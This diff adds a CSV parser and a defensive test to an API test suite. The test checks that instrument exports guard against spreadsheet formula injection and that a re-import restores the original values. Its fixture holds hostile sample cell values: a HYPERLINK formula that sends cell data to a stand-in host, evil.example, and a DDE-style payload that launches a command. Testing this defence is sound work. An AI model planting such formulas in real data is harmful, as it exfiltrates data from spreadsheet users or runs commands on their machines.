@@ -462,6 +462,61 @@ test('search sees catalogue changes made by another process, and not those rolle
 
 // ---- hostile-client findings (h1 sections 1-4) ----
 
+// Parses CSV text (quoted cells may hold commas, quotes and line breaks) into rows of cells.
+function parseCsv(text) {
+  const rows = [];
+  let r = [], cell = '', q = false;
+  const s = text.replace(/^\uFEFF/, '');
+  for (let i = 0; i < s.length; i++) {
+    const ch = s[i];
+    if (q) {
+      if (ch === '"' && s[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') q = false; else cell += ch;
+    } else if (ch === '"') q = true;
+    else if (ch === ',') { r.push(cell); cell = ''; } else if (ch === '\r') { /* CRLF */ } else if (ch === '\n') { r.push(cell); rows.push(r); r = []; cell = ''; } else cell += ch;
+  }
+  if (cell || r.length) { r.push(cell); rows.push(r); }
+  return rows;
+}
+const csvRecords = (text) => {
+  const [header, ...rows] = parseCsv(text);
+  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
+};
+
+test('CSV exports guard text that a spreadsheet would run as a formula; re-importing the export keeps it', async () => {
+  const evil = {
+    name_zh: '=HYPERLINK("http://evil.example/?x="&A1,"点击")', model: "+1+cmd|'/C calc'!A0",
+    manufacturer: '@SUM(1+1)', asset_no: '-公式-' + Math.random().toString(36).slice(2, 8), name_en: 'Formula guard check',
+  };
+  const r0 = await call(opA, 'POST', '/api/v1/instruments', instrument(orgA, evil));
+  assert.equal(r0.status, 201, JSON.stringify(r0.body));
+  const id = r0.body.id;
+  // The public export, anonymously: the name has the apostrophe, the file round-trips.
+  const pub = await anon.get(`/api/v1/instruments/export.csv?org=${orgA.id}&q=${encodeURIComponent('Formula guard')}`);
+  assert.equal(pub.status, 200);
+  const recs = csvRecords(pub.text);
+  assert.equal(recs.length, 1, pub.text);
+  assert.equal(recs[0].name_zh, "'" + evil.name_zh);
+  assert.equal(recs[0].model, "'" + evil.model);
+  assert.equal(recs[0].manufacturer, "'" + evil.manufacturer);
+  assert.equal(recs[0].asset_no, "'" + evil.asset_no);
+  assert.ok(pub.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`), 'written as Excel reads text');
+  assert.equal(recs[0].original_value_fen, '123456700', 'numbers are not touched');
+  const back = await importCsv(opA, pub.text, 'text/csv; charset=utf-8');
+  assert.equal(back.status, 200, JSON.stringify(back.body).slice(0, 500));
+  assert.deepEqual(back.body, { created: 0, updated: 0, unchanged: 1 }, 'the apostrophes come off again');
+  const got = (await get(anon, `/api/v1/instruments/${id}`)).body;
+  assert.equal(got.name_zh, evil.name_zh);
+  assert.equal(got.model, evil.model);
+  assert.equal(got.asset_no, evil.asset_no);
+  // The commission's annual report goes through the same writer.
+  const year = new Date(Date.now() + 8 * 3600e3).getUTCFullYear();
+  const rep = await commission.get(`/api/v1/stats/annual-report?year=${year}&org=${orgA.id}`);
+  assert.equal(rep.status, 200);
+  const line = parseCsv(rep.text).find((r) => r.includes("'" + evil.asset_no));
+  assert.ok(line, 'the instrument is in the annual report');
+  assert.ok(line.includes("'" + evil.name_zh) && !line.includes(evil.name_zh), line.join(' | '));
+});
+
 // Runs last: it adds 5,000 instruments of institution B.
 test('import: at most 5,000 rows; a file at the limit goes through, one row more is refused', async () => {
   const HEAD5 = 'asset_no,name_zh,name_en,model,manufacturer,class_code,category_type,share_mode,run_status,original_value_fen,price.unit,price.internal_fen,price.zone_fen';
